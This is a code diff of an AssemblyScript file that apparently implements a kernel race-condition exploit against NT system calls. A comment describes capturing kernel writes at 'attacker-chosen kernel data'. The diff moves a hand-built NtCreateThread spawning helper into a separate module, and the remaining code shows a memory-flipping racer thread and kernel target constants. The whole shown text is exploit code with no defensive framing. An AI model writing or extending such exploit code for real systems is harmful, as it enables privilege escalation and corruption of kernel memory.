@@ -5,14 +5,12 @@
 // (STOP 0x50 there; attacker-chosen kernel data elsewhere). Captured once,
 // the kernel writes only where it probed: each call answers SUCCESS or
 // ACCESS_VIOLATION, and the machine runs on.
+import { spawnThread as spawn, threadReturned } from "./nt";
 import { show, say, put, putDec, flush, NtAllocateVirtualMemory, NtCreateThread, NtTerminateThread, NtOpenSymbolicLinkObject,
   NtQuerySymbolicLinkObject, NtSuspendThread, attributes } from "./nt";
-@external("kernel", "func_address") declare function func_address(slot: u32): usize;
 @external("kernel", "pause") declare function pause(): void;
 
 const SELF: u32 = 0xFFFFFFFF;
-const context = memory.data(716, 4);
-const initialTeb = memory.data(20, 4);
 const cell = memory.data(64, 4);
 const target = memory.data(8, 4);
 const writable = memory.data(64, 4);
@@ -20,21 +18,6 @@ const KERNEL: u32 = 0xEFFF0000;
 let stop = false;
 let flips: u32 = 0;
 
-function spawn(routine: (p: u32) => void, param: u32): u32 {
-  store<u32>(cell, 0); store<u32>(cell, 0x10000, 4);
-  NtAllocateVirtualMemory(SELF, cell, 0, cell + 4, 0x3000, 0x04);
-  const bottom = load<u32>(cell), top = bottom + 0x10000;
-  store<u32>(top - 8, <u32>func_address(load<u32>(changetype<usize>(threadReturned))));
-  store<u32>(top - 4, param);
-  memory.fill(context, 0, 716);
-  store<u32>(context, <u32>func_address(load<u32>(changetype<usize>(routine))), 0xB8); // Eip
-  store<u32>(context, top - 8, 0xC4);                                                     // Esp
-  store<u32>(initialTeb, top, 8); store<u32>(initialTeb, bottom + 0x2000, 12);
-  const s = NtCreateThread(cell + 8, 0x1F03FF, 0, SELF, cell + 12, context, initialTeb, 0);
-  if (s != 0) { show("create failed", s); return 0; }
-  return load<u32>(cell, 8);
-}
-function threadReturned(p: u32): void { NtTerminateThread(0xFFFFFFFE, 0); }
 
 function flipper(p: u32): void {
   while (!stop) {
